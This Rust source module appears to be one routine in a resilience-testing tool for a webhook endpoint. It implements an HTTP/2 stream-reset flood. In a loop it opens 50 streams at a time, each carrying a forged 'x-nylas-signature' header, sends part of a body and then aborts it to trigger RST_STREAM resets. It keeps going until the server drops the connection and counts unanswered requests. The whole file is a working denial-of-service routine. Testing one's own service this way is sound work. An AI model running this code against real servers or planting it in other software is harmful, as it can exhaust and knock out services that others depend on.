//! Opens many HTTP/2 streams, sends a part of each body, and resets them.

use std::{io, time::Duration};

use bytes::Bytes;
use http_body_util::Channel;
use hyper::{Request, client::conn::http2::SendRequest};
use tokio::{task::JoinSet, time::timeout};

use super::{Target, forgery};
use crate::{delivery::PATH, wire::http2};

const STREAMS: usize = 50;
const SENT: usize = 4 * 1024;

type Sender = SendRequest<Channel<Bytes, io::Error>>;

pub(super) async fn attack(target: &Target) -> io::Result<()> {
    let (sender, connection) = http2::connect(target.address).await?;
    target.connected();
    let mut streams = JoinSet::new();
    // Ends with this function, as everything in the set does.
    streams.spawn(async move {
        let _ = connection.await;
    });
    let (signature, _) = forgery(0)?;
    // A server may end the connection because of the resets; then comes the next one.
    while !sender.is_closed() {
        for _ in 0..STREAMS {
            let (target, sender) = (target.clone(), sender.clone());
            let request = Request::post(format!("http://localhost{PATH}"))
                .header("x-nylas-signature", &signature);
            streams.spawn(async move { one_stream(target, sender, request).await });
        }
        // All but the connection itself.
        while streams.len() > 1 && streams.join_next().await.is_some() {}
    }
    Ok(())
}

async fn one_stream(target: Target, mut sender: Sender, request: hyper::http::request::Builder) {
    let (mut frames, body) = Channel::new(1);
    let Ok(request) = request.body(body) else {
        return;
    };
    target.requested();
    let answer = sender.send_request(request);
    let sending = async {
        let _ = frames.send_data(Bytes::from_static(&[b'x'; SENT])).await;
        tokio::time::sleep(Duration::from_millis(20)).await;
        // A body that fails becomes RST_STREAM.
        frames.abort(io::ErrorKind::Other.into());
    };
    let (answer, ()) = tokio::join!(timeout(Duration::from_secs(5), answer), sending);
    match answer {
        Ok(Ok(answer)) => target.answered(answer.status().as_u16()),
        _ => target.tally(|tally| tally.unanswered += 1),
    }
}
